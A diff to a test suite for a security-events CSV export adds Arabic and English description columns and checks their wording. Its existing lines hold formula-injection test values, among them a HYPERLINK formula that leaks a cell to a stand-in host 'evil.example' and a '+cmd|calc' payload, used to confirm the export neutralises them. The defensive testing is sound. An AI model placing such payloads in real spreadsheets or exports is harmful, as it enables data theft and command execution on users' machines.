@@ -425,6 +425,8 @@ describe.each(databaseKinds)('security events on %s', (kind) => {
       'event_type',
       'event_severity',
       'event_description',
+      'description_ar',
+      'description_en',
       'client_ip',
       'user_agent',
       'api_key_name',
@@ -446,6 +448,11 @@ describe.each(databaseKinds)('security events on %s', (kind) => {
       status: 'open',
       request_path: '/v1/tokens/tok_x/status',
     });
+    // Told as the security center tells it, in both languages.
+    expect(row.description_ar).toMatch(/^رُفض طلب من .+ لتجاوز حد الطلبات$/);
+    expect(row.description_en).toMatch(
+      /^A request from .+ was refused for exceeding the rate limit$/,
+    );
     expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1, ""click""), really"`);
 
     const all = await fetch(`${server.baseUrl}/api/v1/security/events/export?date_range=1d`, {
@@ -454,7 +461,7 @@ describe.each(databaseKinds)('security events on %s', (kind) => {
     const allRows = parseCsv(await all.text()).slice(1);
     const critical = allRows.find((r) => r[1] === 'suspicious_activity')!;
     expect(critical[3]).toBe('multi\nline, "quoted" description');
-    expect(critical[5]).toBe("'\tTabbed");
+    expect(critical[7]).toBe("'\tTabbed");
 
     // Every neutralised prefix, through rows of their own (distinct descriptions).
     for (const [n, text] of ['+cmd|calc', '-2+3', '@SUM(A1:A9)', '=1+1'].entries()) {
